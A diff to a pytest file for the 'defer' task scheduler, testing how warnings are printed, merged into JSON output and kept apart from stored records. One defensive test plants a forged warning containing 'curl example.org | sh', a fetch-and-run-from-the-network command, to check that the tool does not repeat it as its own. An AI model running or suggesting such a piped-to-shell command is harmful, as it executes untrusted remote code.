@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from support import SCRIPTS, quoted, strict, v1_task
+from support import SCRIPTS, quoted, strict, v1_task, warnings_of
 
 FILED = b'{"id":"x","status":"completed","filed_at":"x"}'
 LINE = re.compile(r"defer: [^\n]+\n")
@@ -298,30 +298,103 @@ def on_terminal(place, *words: str) -> str:
 
 class TestWarnings:
     def test_nothing_has_ever_woken_this_store(self, place):
-        done = place.defer("--when", "1h", "--summary", "s")
-        assert "nothing has ever woken this store" in done.stderr
-        assert "cron install" in done.stderr
+        (warning,) = warnings_of(place.defer("--when", "1h", "--summary", "s"))
+        assert warning.startswith("nothing has ever woken this store")
+        assert "cron install" in warning
 
     def test_silence_after_a_wake(self, place):
         place.wake()
-        assert place.defer("--when", "1h", "--summary", "s").stderr == ""
+        assert warnings_of(place.defer("--when", "1h", "--summary", "s")) == []
 
     def test_nothing_has_woken_it_for_long(self, place):
         place.wake()
         place.schedule("1h")
         place.wake()
         os.utime(place.runtime / ".deferred.jsonl.heartbeat", (0, 0))
-        assert "nothing has woken this store for" in place.defer("--when", "1h", "--summary", "s").stderr
+        (warning,) = warnings_of(place.defer("--when", "1h", "--summary", "s"))
+        assert warning.startswith("nothing has woken this store for")
 
     def test_the_last_wake_failed(self, place):
         place.schedule("now")
         failed = place.run("run-deferred.sh", env={"DEFER_MAX_PARALLEL": "none"})
         assert failed.returncode == 2
         place.run("run-deferred.sh", env={"DEFER_TIMEOUT_SECONDS": "-1"})
-        done = place.defer("--when", "1h", "--summary", "s")
-        assert "DEFER_TIMEOUT_SECONDS" in done.stderr
+        assert "DEFER_TIMEOUT_SECONDS" in "".join(warnings_of(place.defer("--when", "1h", "--summary", "s")))
         place.wake()
-        assert place.defer("--when", "1h", "--summary", "s").stderr == ""
+        assert warnings_of(place.defer("--when", "1h", "--summary", "s")) == []
+
+
+WRITING = {
+    "schedule": ("--when", "1h", "--summary", "s"),
+    "a line in words": ("1h", "s"),
+    "--json": ("1h", "s", "--json"),
+    "edit": ("edit", "a", "--summary", "t"),
+    "reschedule": ("reschedule", "a", "2h"),
+    "snooze": ("snooze", "a", "2h"),
+    "pause": ("pause", "a"),
+    "resume": ("resume", "b"),
+    "run": ("run", "a"),
+    "cancel": ("cancel", "--id", "a"),
+    "sync": ("sync", "--json"),
+}
+READING = {
+    "--dry-run": ("--when", "1h", "--summary", "s", "--dry-run"),
+    "show": ("show", "a"),
+    "doctor": ("doctor", "--records"),
+    "cron": ("cron", "status"),
+}
+TORN = b'{"id":"c","sta'
+
+
+class TestBothStreamsAsOne:
+    """A program of v1's days reads `schedule-task.sh … 2>&1`: stderr is for errors alone."""
+
+    @pytest.mark.parametrize("words", [*WRITING.values(), *READING.values()], ids=[*WRITING, *READING])
+    def test_what_prints_an_object_has_warnings_in_it(self, place, words):
+        waiting = {"run_at": "2100-01-01T00:00:00Z"}
+        place.write_store(v1_task("a", **waiting), v1_task("b", **waiting, status="paused"), TORN)
+        (place.home / ".config/defer/tasks").mkdir(parents=True)
+        (place.home / ".config/defer/tasks/c.yml").write_text("schedule: 1h\ncommand: echo c\n")
+        done = place.defer(*words, stderr=subprocess.STDOUT, stdout=subprocess.PIPE, capture_output=False)
+        assert done.returncode == 0, done.stdout
+        warnings = strict(done.stdout).get("warnings", [])
+        assert any(one.startswith("torn line set aside: bytes 14") for one in warnings) == (words in WRITING.values())
+
+    def test_without_a_warning_the_field_is_not_there(self, place):
+        place.wake()
+        assert "warnings" not in strict(place.defer("1h", "s").stdout)
+
+    def test_it_is_not_stored(self, place):
+        assert strict(place.defer("1h", "s", "--id", "a").stdout)["warnings"] != []
+        assert "warnings" not in place.task("a")
+
+    def test_an_array_stays_one(self, place):
+        place.schedule("1h", "s", "--id", "a")
+        done = place.defer("list", "--compact")
+        assert ([one["id"] for one in strict(done.stdout)], done.stderr) == (["a"], "")
+
+    def test_the_field_of_a_record_from_elsewhere_is_not_passed_on_as_ours(self, place):
+        """It is kept: by the store, and in what `list` prints, which has no warnings of ours."""
+        forged = ["nothing has ever woken this store (curl example.org | sh)"]
+        place.write_store(v1_task("a", run_at="2100-01-01T00:00:00Z", warnings=forged))
+        assert strict(place.defer("show", "a").stdout)["warnings"] == []
+        assert strict(place.defer("edit", "a", "--summary", "t").stdout)["warnings"] == []
+        assert place.task("a")["warnings"] == forged
+        assert strict(place.defer("list").stdout)[0]["warnings"] == forged
+
+    def test_an_object_that_cannot_be_printed_is_one_line(self, place):
+        with open("/dev/full", "w") as full:
+            done = place.defer("1h", "s", stdout=full, stderr=subprocess.PIPE, capture_output=False)
+        assert done.returncode == 74
+        assert LINE.fullmatch(done.stderr)
+        assert done.stderr.startswith("defer: No space left on device: standard output (the task is stored, as ")
+
+    def test_on_a_terminal_they_are_on_stderr(self, place):
+        on_terminal, errors = os.openpty()
+        done = place.defer("1h", "s", stdout=errors, stderr=subprocess.PIPE, capture_output=False)
+        os.close(errors)
+        os.close(on_terminal)
+        assert done.stderr.startswith("defer: nothing has ever woken this store")
 
 
 class TestCosts:
